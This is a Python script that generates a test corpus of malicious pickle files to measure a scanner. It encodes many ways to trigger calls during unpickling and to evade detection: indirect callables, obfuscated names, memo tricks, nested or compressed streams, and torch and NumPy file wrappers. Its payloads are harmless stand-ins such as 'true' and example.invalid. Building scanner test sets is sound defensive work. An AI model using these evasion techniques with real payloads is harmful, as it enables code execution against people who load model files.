#!/usr/bin/env python3
"""Writes malicious pickles to measure the scanner with: callables that callables.py works out of the standard library,
joined with every way in which a pickle can come to a call.
    gadgets.py FOLDER [COUNT] [SEED]
The files are FOLDER/FORM/MODULE.NAME-N.pkl; the same seed, count and Python give the same bytes. Nothing here is ever
loaded; what would run were it loaded is `true`, /tmp/parapet-test and example.invalid."""
import base64
import bz2
import io
import os
import random
import struct
import sys
import zipfile
import zlib

from assembly import (Call, Computed, Ext, Inst, Name, New, NewEx, Obj, Persistent, Raw, Reconstruct, Steps, Writer, dumps)
from callables import derive

ARGUMENTS = {
    'code': [('__import__("os").system("true")',), ('1+1', {}), (b'\xe3\x00\x00\x00',), ('/tmp/parapet-test.so',)],
    'imports': [('parapet_test',), ('os',), ('parapet_test', None, None, ['x'])],
    'process': [('true',), (['true'],), ('/bin/true', ['true']), ('true', 0), (1,)],
    'files': [('/tmp/parapet-test',), ('/tmp/parapet-test', 'w'), ('/tmp/a', '/tmp/b'), ('parapet-test.txt', 'rb')],
    'network': [('example.invalid', 80), (('example.invalid', 80),), ('http://example.invalid/x',), ('example.invalid',)],
}
BENIGN = ('weights', [0.25, 1.5, -3.0], {'epoch': 3, 'lr': 0.01})
BOTH = (0, 1, 2, 3, 4, 5)
LATE = (4, 5)


def form(*protocols, plain=False, classes=False, methods=False):
    """A call form. plain: only names without a dot; classes, methods: only those."""
    def take(f):
        FORMS[f.__name__] = (f, protocols, plain, classes, methods)
        return f
    return take


FORMS = {}


# Opcodes that call
@form(*BOTH)
def reduce(r, target, args):
    return Call(target, *args)


@form(0, 1, 2, 4, plain=True)
def inst(r, target, args):
    return Inst(target, *args)


@form(*BOTH)
def obj(r, target, args):
    return Obj(target, *args)


@form(*LATE, classes=True)
def newobj_then_init(r, target, args):
    """The constructor that NEWOBJ leaves out is called as a function."""
    return Call(Name(target.module, target.name + '.__init__'), New(target), *args)


@form(*LATE, classes=True)
def newobj_ex_then_init(r, target, args):
    return Call(Name(target.module, target.name + '.__init__'), NewEx(target, keywords={}), *args)


@form(*LATE, methods=True)
def method_of_built_object(r, target, args):
    """A method of an object whose attributes the stream sets."""
    cls = Name(target.module, target.name.rpartition('.')[0])
    return Call(target, New(cls, state={'name': args[0], 'file': '/tmp/parapet-test', '_name': '/tmp/parapet-test'}), *args)


@form(*LATE, methods=True)
def method_by_getattr(r, target, args):
    cls, _, method = target.name.rpartition('.')
    return Call(Call(Name('builtins', 'getattr'), New(Name(target.module, cls)), method), *args)


@form(2, 4)
def extension(r, target, args):
    code = r.choice([7, 255, 300, 70000])
    return Steps(Call(Name('copyreg', 'add_extension'), target.module, target.name, code), Call(Ext(code), *args))


# Where the call hides
@form(*BOTH)
def popped(r, target, args):
    return Steps(Call(target, *args), BENIGN)


@form(*BOTH)
def deep_in_benign(r, target, args):
    return {'state': [BENIGN, {'layers': [BENIGN, (BENIGN, Call(target, *args))]}], 'ok': True}


@form(*BOTH)
def in_object_state(r, target, args):
    return New(Name('sklearn.linear_model._base', 'LinearRegression'), state={'coef_': Call(target, *args), 'n_features_in_': 4})


@form(*BOTH)
def as_dictionary_key(r, target, args):
    return Call(Name('collections', 'OrderedDict'), pairs=[(Call(target, *args), 1)])


@form(4)
def persistent_id(r, target, args):
    return Persistent(('storage', Call(target, *args), '0', 'cpu', 4))


@form(2, 4)
def tensor_arguments(r, target, args):
    storage = Persistent(('storage', Name('torch', 'FloatStorage'), '0', 'cpu', 4))
    return Call(Name('torch._utils', '_rebuild_tensor_v2'), storage, 0, (2, 2), (2, 1), False, Call(target, *args))


# Functions that call what they are given
@form(*BOTH)
def mapped(r, target, args):
    lists = [[a] for a in args]
    return Call(Name('builtins', r.choice(['list', 'tuple', 'set'])), Call(Name('builtins', 'map'), target, *lists))


@form(*BOTH)
def filtered(r, target, args):
    return Call(Name('builtins', 'list'), Call(Name('builtins', 'filter'), target, [args[0]]))


@form(*BOTH)
def starmapped(r, target, args):
    return Call(Name('collections', 'deque'), Call(Name('itertools', 'starmap'), target, [args]))


@form(*BOTH)
def partial_called(r, target, args):
    return Call(Call(Name('functools', 'partial'), target, *args))


@form(*BOTH)
def partial_by_setstate(r, target, args):
    p = Call(Name('functools', 'partial'), Name('builtins', 'print'), state=(target, args, {}, None))
    return Call(p)


@form(*BOTH)
def default_factory(r, target, args):
    made = Call(Name('collections', 'defaultdict'), Call(Name('functools', 'partial'), target, *args))
    return Call(Name('operator', 'getitem'), made, 'missing')


@form(3, 4)
def reduced(r, target, args):
    return Call(Name('functools', 'reduce'), target, [args[0], args[-1]])


@form(4)
def operator_call(r, target, args):
    return Call(Name(r.choice(['operator', '_operator']), 'call'), target, *args)


@form(2, 4)
def tensor_type_rebuild(r, target, args):
    """torch's own rebuild functions call their first argument."""
    return Call(Name('torch._tensor', '_rebuild_from_type_v2'), target, Name('torch', 'Tensor'), args, {})


@form(2, 4)
def generator_constructor(r, target, args):
    """So do NumPy's: __generator_ctor(name, constructor)."""
    return Call(Name('numpy.random._pickle', r.choice(['__generator_ctor', '__randomstate_ctor'])), args[0], target)


@form(4)
def sorting_key(r, target, args):
    key = Call(Name('functools', 'partial'), Name('builtins', 'sorted'), state=(Name('builtins', 'sorted'), ([args[0]],), {'key': target}, None))
    return Call(key)


# Names by another way than spelling them
@form(*BOTH, plain=True)
def getattr_of_import(r, target, args):
    module = Call(Name('importlib', 'import_module'), target.module)
    return Call(Call(Name('builtins', 'getattr'), module, target.name), *args)


@form(*BOTH)
def resolved_path(r, target, args):
    finder, between = r.choice([(('pkgutil', 'resolve_name'), ':'), (('pydoc', 'locate'), '.'), (('logging.config', '_resolve'), '.')])
    return Call(Call(Name(*finder), target.module + between + target.name), *args)


@form(*BOTH, plain=True)
def attrgetter(r, target, args):
    module = Call(Name('builtins', '__import__'), target.module, None, None, ['*'])
    return Call(Call(Call(Name(r.choice(['operator', '_operator']), 'attrgetter'), target.name), module), *args)


@form(*BOTH, plain=True)
def methodcaller(r, target, args):
    module = Call(Name('importlib', 'import_module'), target.module)
    return Call(Call(Name(r.choice(['operator', '_operator']), 'methodcaller'), target.name, *args), module)


@form(*LATE, plain=True)
def module_of_another(r, target, args):
    """An attribute path that starts in a harmless module which imports the other."""
    start = r.choice(['random', 'statistics', 'collections', 'numpy', 'sklearn.utils'])
    root, _, rest = target.module.partition('.')
    return Call(Name(start, '.'.join(filter(None, [r.choice(['', '_']) + root, rest, target.name]))), *args)


@form(*LATE)
def joined_name(r, target, args):
    def joined(s):
        cut = r.randrange(1, max(2, len(s)))
        return Call(Name('builtins', 'str.join'), '', [s[:cut], s[cut:]]) if r.random() < 0.5 else Call(Name('operator', 'add'), s[:cut], s[cut:])
    return Call(Computed(joined(target.module), joined(target.name)), *args)


@form(*LATE)
def decoded_name(r, target, args):
    def coded(s):
        return Call(Name('codecs', 'decode'), base64.b64encode(s.encode()), 'base64') if r.random() < 0.5 else Call(Name('_codecs', 'decode'), s.encode(), 'utf-8')
    return Call(Computed(coded(target.module), coded(target.name)), *args)


@form(4, plain=True)
def serializer_import(r, target, args):
    """cloudpickle's and dill's way to a module and its attribute."""
    importer, getter = r.choice([(('cloudpickle.cloudpickle', 'subimport'), ('builtins', 'getattr')), (('dill._dill', '_import_module'), ('dill._dill', '_get_attr'))])
    return Call(Call(Name(*getter), Call(Name(*importer), target.module), target.name), *args)


# What a load or a later use calls by itself
@form(*LATE)
def planted_in_class(r, target, args):
    body = {r.choice(['__del__', '__eq__', '__hash__', '__getitem__', '__iter__', '__reduce__', '__setstate__']): target}
    return Call(Call(Name('builtins', 'type'), 'X', (Name('builtins', 'object'),), body), *args)


@form(2, 4)
def planted_by_build(r, target, args):
    return New(Name('sklearn.svm._classes', 'SVC'), state={r.choice(['__call__', '__del__', '__getitem__']): target, 'kernel': args[0]})


@form(2, 4)
def into_module_attributes(r, target, args):
    return Call(Name('collections', 'OrderedDict'), items=None, state=None, pairs=[('a', Raw(Writer(4, memo=False).value(Name('json', 'JSONDecoder')) + Writer(4, memo=False).value((None, {'decode': target})) + b'b'))])


FILE_FORMS = {}


def file_form(f):
    FILE_FORMS[f.__name__] = f
    return f


def plain_call(r, target, args, protocols=BOTH):
    protocol = r.choice(LATE if '.' in target.name else protocols)
    return dumps(Call(target, *args), protocol)


# Streams that read otherwise than they run
@file_form
def memo_overwritten(r, target, args):
    """BINPUT 0 stores a harmless name, then the other one over it."""
    def text(s):
        return b'\x8c' + bytes([len(s)]) + s.encode()
    return (b'\x80\x04' + text('torch') + b'q\x000' + text(target.module) + b'q\x000' + text('Size') + b'q\x010' + text(target.name) +
            b'q\x010h\x00h\x01\x93' + Writer(4, memo=False).tuple(args) + b'R.')


@file_form
def memo_mixed(r, target, args):
    """MEMOIZE stores at the memo's size, not behind the highest index."""
    def text(s):
        return b'\x8c' + bytes([len(s)]) + s.encode()
    return (b'\x80\x04' + text('numpy') + b'q\x05\x940' + text(target.module) + b'\x94' + text(target.name) + b'\x9400h\x02h\x03\x93' +
            Writer(4, memo=False).tuple(args) + b'R.')


@file_form
def escaped_text(r, target, args):
    w = Writer(0, escape=True, string=r.random() < 0.5, memo=False)
    return b'\x80\x04' + w.text(target.module) + w.text(target.name) + b'\x93' + Writer(4, memo=False).tuple(args) + b'R.'


@file_form
def python2_strings(r, target, args):
    w = Writer(r.choice([1, 2]), string=True, memo=False)
    return b'\x80\x04' + w.text(target.module) + w.text(target.name) + b'\x93' + w.tuple(args) + b'R.'


@file_form
def second_stream(r, target, args):
    return dumps(BENIGN, r.choice(BOTH)) + plain_call(r, target, args)


@file_form
def broken_behind(r, target, args):
    return plain_call(r, target, args)[:-1] + r.choice([b'', b'\xff', b'0000', b'h\xfe', b'\x93', b'(((('])


@file_form
def no_frame_or_wrong_frame(r, target, args):
    body = Writer(4).value(Call(target, *args)) + b'.'
    return b'\x80\x04\x95' + struct.pack('<Q', r.choice([0, 5, len(body) + 40, 2**40])) + body


@file_form
def proto_again(r, target, args):
    w = Writer(4, memo=False)
    return b'\x80\x02N0\x80\x04' + w.value(Call(target, *args)) + b'.'


@file_form
def junk_in_front(r, target, args):
    return bytes(r.randrange(256) for _ in range(r.choice([16, 333]))) + b'\x00' * 8 + plain_call(r, target, args, (2, 3, 4, 5))


# Pickles in pickles
@file_form
def nested_bytes(r, target, args):
    loader = r.choice([('pickle', 'loads'), ('_pickle', 'loads'), ('dill', 'loads'), ('cloudpickle', 'loads'), ('joblib.numpy_pickle', '_unpickle')])
    return dumps(Call(Name(*loader), plain_call(r, target, args)), 4)


@file_form
def nested_compressed(r, target, args):
    packer, unpacker = r.choice([(zlib.compress, ('zlib', 'decompress')), (bz2.compress, ('bz2', 'decompress')), (base64.b64encode, ('base64', 'b64decode'))])
    return dumps(Call(Name('pickle', 'loads'), Call(Name(*unpacker), packer(plain_call(r, target, args)))), 4)


@file_form
def nested_text_only(r, target, args):
    """No loader in sight: the second stage is a text that some later code decodes."""
    return dumps({'vocab': base64.b64encode(plain_call(r, target, args, LATE)).decode(), 'n': 3}, 4)


# Files around pickles
@file_form
def packed_zlib(r, target, args):
    return r.choice([zlib.compress, bz2.compress])(plain_call(r, target, args))


@file_form
def torch_zip(r, target, args):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr(zipfile.ZipInfo('archive/data.pkl'), plain_call(r, target, args, (2,)))
        z.writestr(zipfile.ZipInfo('archive/version'), b'3\n')
    return out.getvalue()


@file_form
def numpy_objects(r, target, args):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += ' ' * (117 - len(header)) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode() + plain_call(r, target, args)


def pickles(callables, count, seed):
    """(form, callable, bytes), `count` of them: every callable in as many forms as the count allows."""
    r = random.Random(seed)
    names = list(FORMS) + list(FILE_FORMS)
    made, turn = 0, 0
    order = {c: r.sample(names, len(names)) for c in callables}
    while made < count and turn < len(names):
        for c in r.sample(callables, len(callables)):
            if made >= count:
                return
            module, name, kind, what = c
            chosen = order[c][turn]
            target, args = Name(module, name), r.choice(ARGUMENTS[what])
            if chosen in FILE_FORMS:
                data = FILE_FORMS[chosen](r, target, args)
            else:
                f, protocols, plain, classes, methods = FORMS[chosen]
                if plain and '.' in name or classes and kind != 'class' or methods and kind != 'method':
                    continue
                usable = [p for p in protocols if p >= 4 or '.' not in name]
                if not usable:
                    continue
                data = dumps(f(r, target, args), r.choice(usable), memo=r.random() < 0.8)
            made += 1
            yield chosen, f'{module}.{name}', data
        turn += 1


def main():
    folder = sys.argv[1]
    count, seed = int((sys.argv[2:] or ['12000'])[0]), int((sys.argv[3:] or ['1'])[0])
    n = 0
    for n, (chosen, name, data) in enumerate(pickles(derive(), count, seed), 1):
        os.makedirs(os.path.join(folder, chosen), exist_ok=True)
        with open(os.path.join(folder, chosen, f'{name}-{n}.pkl'), 'wb') as f:
            f.write(data)
    print(n, 'pickles,', len(FORMS) + len(FILE_FORMS), 'forms')


if __name__ == '__main__':
    main()
